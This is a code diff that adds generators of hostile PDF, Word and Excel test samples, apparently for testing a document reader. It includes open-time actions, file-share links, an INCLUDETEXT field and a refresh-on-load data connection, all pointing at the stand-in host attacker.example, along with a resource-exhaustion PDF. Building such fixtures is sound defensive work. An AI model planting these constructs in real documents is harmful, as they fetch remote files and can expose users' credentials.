@@ -389,3 +389,44 @@ def nested_arrays_pdf(arrays: int) -> bytes:
     """One object of `arrays` arrays of 99,999 empty arrays each (each within the reader's limit for one array):
     the reader builds them all as it reads the object."""
     return _pdf_with(b"/Extra 4 0 R", b"", b"[" + (b"[" + b"[]" * 99_999 + b"]") * arrays + b"]")
+
+
+def thread_action_pdf() -> bytes:
+    """An article action that opens a PDF on a file share as the document opens."""
+    return _pdf_with(b"/OpenAction << /S /Thread /F (annex.pdf) /D 0 >>")
+
+
+def file_uri_pdf() -> bytes:
+    """A link whose address is a file on another computer."""
+    return _pdf_with(b"", b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] "
+                                              b"/A << /S /URI /URI (file://attacker.example/share/annex.pdf) >> >>")
+
+
+def media_pdf() -> bytes:
+    """A sound played as the document opens."""
+    return _pdf_with(b"/OpenAction << /S /Sound /Sound 4 0 R >>", b"", b"<< /Length 0 >>\nstream\n\nendstream")
+
+
+def imported_chunk_docx() -> bytes:
+    """A document that imports another (altChunk), which Word merges in as it opens."""
+    return _docx('<w:altChunk r:id="rId1"/>', parts={
+        "word/_rels/document.xml.rels": _relationships(("aFChunk", "chunk.docx", "")),
+        "word/chunk.docx": dde_field_docx(),
+    })
+
+
+def include_field_docx() -> bytes:
+    """A field that fetches a document from a file share when it updates."""
+    share = "\\\\\\\\attacker.example\\\\share\\\\x.docx"
+    return _docx(f'<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;{share}&quot;"/></w:p>')
+
+
+def connections_xlsx() -> bytes:
+    """A workbook that fetches a file from a share when it opens (a data connection refreshed on load)."""
+    return _xlsx_with({"xl/connections.xml": CONNECTIONS},
+                      ("connections", "connections.xml", ""))
+
+
+CONNECTIONS = (b'<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" '
+               b'name="annex" type="6" refreshOnLoad="1"><textPr sourceFile="\\\\attacker.example\\share\\a.csv"/>'
+               b"</connection></connections>")
